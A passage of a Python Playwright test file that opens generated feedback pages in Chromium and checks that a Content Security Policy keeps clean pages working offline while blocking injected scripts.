            page.add_init_script("window.__csp = []; document.addEventListener('securitypolicyviolation', "
                                 "e => window.__csp.push([e.violatedDirective, e.blockedURI, e.sample]));")
            page.route("**/*", serve)
            page.goto(path.as_uri())
            page.wait_for_timeout(500)
            state = page.evaluate("""() => ({
                pwned: [window.__pwned, window.__pwned2, window.__pwned3],
                csp: window.__csp,
                // MathML laid out by the browser: formulas with a size of their own
                math: Array.from(document.querySelectorAll('math')).filter(
                    m => m.getBoundingClientRect().width > 0 && m.namespaceURI.endsWith('MathML')).length,
                pngs: Array.from(document.images).filter(
                    i => i.src.startsWith('data:image/png') && i.naturalWidth > 0).length,
            })""")
        finally:
            browser.close()
    return dict(state, dialogs=dialogs, fetched=fetched, refused=refused)


def test_policy_keeps_the_page_working_in_chromium(feedback_pages):
    """The hardened page works under its policy and without network: the formulas are
    MathML the browser lays out, the PNGs show, nothing is fetched, nothing of the template
    is refused but bootstrap's glyph fonts (which no feedback page uses, nor has beside it)."""
    state = _open_in_chromium(feedback_pages["clean"])
    assert state["math"] >= 3, state
    assert state["pngs"] >= 2, state
    assert not state["refused"], state
    others = [v for v in state["csp"] if not (v[0] == "font-src" and v[1] == "file")]
    assert others == [], others
    assert state["pwned"] == [None, None, None] and not state["dialogs"]


def test_policy_stops_a_script_that_sanitising_missed_in_chromium(feedback_pages):
    state = _open_in_chromium(feedback_pages["injected"])
    assert state["pwned"] == [None, None, None], state
    assert not state["dialogs"]
    refused = {v[0] for v in state["csp"]}
    assert {"script-src-elem", "script-src-attr"} <= refused, state["csp"]
